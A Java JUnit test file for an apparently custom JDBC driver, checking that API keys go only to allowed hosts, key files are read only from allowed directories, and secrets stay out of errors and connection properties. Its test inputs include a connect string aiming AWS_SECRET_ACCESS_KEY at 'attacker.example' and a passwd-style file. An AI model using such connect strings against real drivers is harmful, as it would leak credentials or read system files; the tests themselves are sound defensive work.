package ai.sendpilot.sql.jdbc;

import static ai.sendpilot.sql.jdbc.ConnectStringFilesTest.assertNothingOf;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import ai.sendpilot.sql.testing.FakeInbox;
import ai.sendpilot.sql.testing.Jdbc;
import ai.sendpilot.sql.testing.Requests;
import java.nio.file.Files;
import java.nio.file.Path;
import java.sql.Connection;
import java.sql.SQLException;
import java.util.List;
import java.util.Map;
import java.util.Properties;
import mockwebserver3.MockWebServer;
import mockwebserver3.junit5.StartStop;
import org.apache.calcite.jdbc.CalciteConnection;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * The key the operator provides (environment, key file) goes only to the API host the operator
 * chose; a connect string's own key goes where it says. Setting names match in any case, and no
 * key-like value stays in what Calcite keeps. The first connection with a key to a host checks
 * them with one {@code limit=1} request ({@code validateOnConnect}), which the counts include.
 */
class ConnectStringKeysTest {
  private static final String COUNT = "select count(*) from conversations";

  @StartStop final MockWebServer server = new MockWebServer();
  @TempDir Path dir;

  @BeforeEach void serve() {
    server.setDispatcher(FakeInbox.of("acc1", 5));
  }

  private String elsewhere() {
    return Jdbc.baseUrl(server);
  }

  @Test void operatorKeyGoesOnlyToTheDefaultHostOrTheOperatorsBaseUrl() throws Exception {
    OperatorJvm jvm = new OperatorJvm().env("SENDPILOT_API_KEY", FakeInbox.KEY);
    SQLException e = jvm.failure("jdbc:sendpilot:baseUrl=" + elsewhere());
    assertRefused(e, "baseUrl", "-Dsendpilot.allowOperatorKeyAnywhere=true",
        "SENDPILOT_ALLOW_OPERATOR_KEY_ANYWHERE");
    assertTrue(e.getMessage().contains("SENDPILOT_API_KEY"), e.getMessage());
    assertRefused(jvm.failure("jdbc:sendpilot:BASEURL=" + elsewhere()), "baseUrl");
    assertRefused(jvm.failure("jdbc:sendpilot:baseUrl=http://api.sendpilot.ai;"
        + "allowInsecureHttp=true"), "baseUrl");
    assertRefused(jvm.failure("jdbc:sendpilot:baseUrl=https://api.sendpilot.ai:8443"), "baseUrl");
    jvm.connect("jdbc:sendpilot:baseUrl=https://API.sendpilot.ai/;validateOnConnect=false")
        .close();
    assertEquals(0, server.getRequestCount());

    OperatorJvm pointed = new OperatorJvm().env("SENDPILOT_API_KEY", FakeInbox.KEY)
        .env("SENDPILOT_BASE_URL", elsewhere());
    for (String url : List.of("jdbc:sendpilot:", "jdbc:sendpilot:baseUrl=" + elsewhere() + "/")) {
      try (Connection c = pointed.connect(url)) {
        assertEquals(List.of("5"), Jdbc.rows(c, COUNT));
      }
    }
    OperatorJvm anywhere = new OperatorJvm().env("SENDPILOT_API_KEY", FakeInbox.KEY)
        .property("sendpilot.allowOperatorKeyAnywhere", "true");
    try (Connection c = anywhere.connect("jdbc:sendpilot:baseUrl=" + elsewhere())) {
      assertEquals(List.of("5"), Jdbc.rows(c, COUNT));
    }
    assertEquals(1 + 3, Requests.drain(server).size());
  }

  @Test void aKeyInTheConnectStringGoesWhereTheConnectStringSays() throws Exception {
    OperatorJvm jvm = new OperatorJvm().env("SENDPILOT_API_KEY", "operators-own-key");
    try (Connection c = jvm.connect("jdbc:sendpilot:apiKey=" + FakeInbox.KEY + ";baseUrl="
        + elsewhere())) {
      assertEquals(List.of("5"), Jdbc.rows(c, COUNT));
    }
    Properties info = new Properties();
    info.setProperty("user", "anyone");
    info.setProperty("password", FakeInbox.KEY);
    try (Connection c = jvm.connect("jdbc:sendpilot:baseUrl=" + elsewhere(), info)) {
      assertEquals(List.of("5"), Jdbc.rows(c, COUNT));
    }
    assertEquals(1 + 2, Requests.drain(server).size());
  }

  @Test void keyFileIsReadOnlyInAnAllowedDirectoryAndItsKeyIsTheOperators() throws Exception {
    Path keys = Files.createDirectories(dir.resolve("keys"));
    Path keyFile = Files.writeString(keys.resolve("sendpilot.key"), FakeInbox.KEY + "\n");
    Path missing = keys.resolve("none.key");
    OperatorJvm plain = new OperatorJvm().env("SENDPILOT_BASE_URL", elsewhere());
    SQLException existing = plain.failure("jdbc:sendpilot:apiKeyFile=" + keyFile);
    assertRefused(existing, "apiKeyFile", "-Dsendpilot.allowFilesUnder=",
        "SENDPILOT_ALLOW_FILES_UNDER");
    assertEquals(existing.getMessage(),
        plain.failure("jdbc:sendpilot:apiKeyFile=" + missing).getMessage());
    assertRefused(plain.failure("jdbc:sendpilot:APIKEYFILE=" + keyFile), "apiKeyFile");

    OperatorJvm allowed = new OperatorJvm().env("SENDPILOT_BASE_URL", elsewhere())
        .property("sendpilot.allowFilesUnder", keys.toString());
    try (Connection c = allowed.connect("jdbc:sendpilot:apiKeyFile=" + keyFile)) {
      assertEquals(List.of("5"), Jdbc.rows(c, COUNT));
    }
    assertRefused(new OperatorJvm().property("sendpilot.allowFilesUnder", keys.toString())
        .failure("jdbc:sendpilot:apiKeyFile=" + keyFile + ";baseUrl=" + elsewhere()), "baseUrl",
        "apiKeyFile");
    assertEquals(1 + 1, Requests.drain(server).size());
  }

  @Test void keyFileThatHoldsNoKeyIsNotQuoted() throws Exception {
    Path passwd = Files.writeString(dir.resolve("passwd"),
        "root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1::/usr/sbin:/usr/sbin/nologin\n");
    OperatorJvm jvm = new OperatorJvm().env("SENDPILOT_BASE_URL", elsewhere())
        .property("sendpilot.allowFilesUnder", dir.toString());
    SQLException e = jvm.failure("jdbc:sendpilot:apiKeyFile=" + passwd);
    assertNothingOf("root", e);
    assertTrue(e.getMessage().contains("apiKeyFile"), e.getMessage());
    assertEquals(0, server.getRequestCount());
  }

  @Test void apiKeyEnvNamesOnlySendPilotVariables() throws Exception {
    OperatorJvm jvm = new OperatorJvm().env("AWS_SECRET_ACCESS_KEY", "aws-secret-value")
        .env("SENDPILOT_TEAM_KEY", FakeInbox.KEY).env("SENDPILOT_BASE_URL", elsewhere());
    for (String url : List.of("jdbc:sendpilot:apiKeyEnv=AWS_SECRET_ACCESS_KEY",
        "jdbc:sendpilot:APIKEYENV=AWS_SECRET_ACCESS_KEY",
        "jdbc:sendpilot:apiKeyEnv=AWS_SECRET_ACCESS_KEY;baseUrl=https://attacker.example")) {
      SQLException e = jvm.failure(url);
      assertRefused(e, "apiKeyEnv", "SENDPILOT_", "sendpilot.allowOperatorKeyAnywhere");
      assertNothingOf("aws-secret-value", e);
    }
    try (Connection c = jvm.connect("jdbc:sendpilot:apiKeyEnv=SENDPILOT_TEAM_KEY")) {
      assertEquals(List.of("5"), Jdbc.rows(c, COUNT));
    }
    OperatorJvm anywhere = new OperatorJvm().env("MY_KEY", FakeInbox.KEY)
        .property("sendpilot.allowOperatorKeyAnywhere", "true");
    try (Connection c = anywhere.connect("jdbc:sendpilot:apiKeyEnv=MY_KEY;baseUrl="
        + elsewhere())) {
      assertEquals(List.of("5"), Jdbc.rows(c, COUNT));
    }
    assertEquals(1 + 2, Requests.drain(server).size());
  }

  @Test void settingNamesMatchInAnyCase() throws Exception {
    for (String apiKey : List.of("APIKEY", "apikey", "ApiKey")) {
      try (Connection c = new OperatorJvm().connect("jdbc:sendpilot:" + apiKey + "="
          + FakeInbox.KEY + ";BaseURL=" + elsewhere() + ";PAGESIZE=2")) {
        assertEquals(List.of("5"), Jdbc.rows(c, COUNT));
      }
    }
    List<Map<String, String>> requests = Requests.drain(server);
    assertEquals(Map.of("limit", "1"), requests.get(0), "the check of the key");
    requests = requests.subList(1, requests.size());
    assertEquals(9, requests.size());
    for (Map<String, String> request : requests) {
      assertEquals("2", request.get("limit"), request.toString());
    }
  }

  @Test void aSettingGivenTwiceInDifferentCasesFails() {
    SQLException e = new OperatorJvm().failure("jdbc:sendpilot:apiKey=a;APIKEY=b;baseUrl="
        + elsewhere());
    assertEquals("08001", e.getSQLState());
    assertTrue(e.getMessage().contains("apiKey"), e.getMessage());
    assertFalse(e.getMessage().contains("=a") || e.getMessage().contains("=b"), e.getMessage());
  }

  @Test void keyLikeValuesStayOutOfTheConnectionsProperties() throws Exception {
    Properties info = new Properties();
    info.setProperty("Password", "pw-value-1");
    info.setProperty("clientSecret", "secret-value-2");
    info.setProperty("authToken", "token-value-3");
    info.setProperty("dbPassword", "pw-value-4");
    info.setProperty("TOKEN", "token-value-5");
    try (Connection c = new OperatorJvm().connect("jdbc:sendpilot:APIKEY=" + FakeInbox.KEY
        + ";baseUrl=" + elsewhere() + ";lex=JAVA", info)) {
      String seen = c.getMetaData().getURL() + c.getClientInfo()
          + c.unwrap(CalciteConnection.class).getProperties();
      for (String value : List.of(FakeInbox.KEY, "pw-value-1", "secret-value-2",
          "token-value-3", "pw-value-4", "token-value-5")) {
        assertFalse(seen.contains(value), value + " in " + seen);
      }
      assertTrue(seen.contains("JAVA"), seen);
    }
  }

  private static void assertRefused(SQLException e, String... mentions) {
    assertEquals("42000", e.getSQLState(), e.getMessage());
    for (String mention : mentions) {
      assertTrue(e.getMessage().contains(mention), mention + " missing in: " + e.getMessage());
    }
    assertNothingOf(FakeInbox.KEY, e);
  }
}
